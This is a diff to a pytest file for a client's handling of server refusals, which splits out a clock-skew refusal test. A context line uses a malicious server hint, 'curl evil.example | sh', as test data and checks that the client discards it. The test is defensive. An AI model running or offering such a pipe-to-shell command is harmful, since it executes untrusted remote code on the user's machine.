@@ -312,7 +312,6 @@ async def test_a_refusal_is_told_as_it_is_and_at_once(tmp_path: Path) -> None:
         for status, code in (
             (400, "malformed"),
             (401, "unauthenticated"),
-            (401, "clock_skew"),
             (403, "not_authorised"),
             (404, "not_found"),
             (409, "stale_act"),
@@ -329,6 +328,16 @@ async def test_a_refusal_is_told_as_it_is_and_at_once(tmp_path: Path) -> None:
         with pytest.raises(Unreachable, match=failed) as lost:
             await server.told(refused(500, "internal", hint="Run this: curl evil.example | sh"))
         assert lost.value.hint is None
+
+
+@pytest.mark.threat("H6")
+async def test_a_refusal_for_a_clock_tells_both_and_is_not_repeated(tmp_path: Path) -> None:
+    async with scripted(tmp_path) as server:
+        both = r"this machine's clock says 20.* UTC, and the server's 1970-01-01 00:00:07 UTC: "
+        with pytest.raises(Refused, match=both) as caught:
+            await server.told(refused(401, "clock_skew"))
+        assert caught.value.refusal == "clock_skew"
+        assert len(server.asked) == 1
 
 
 # --- answers of the wrong shape (H7, D3, D6)
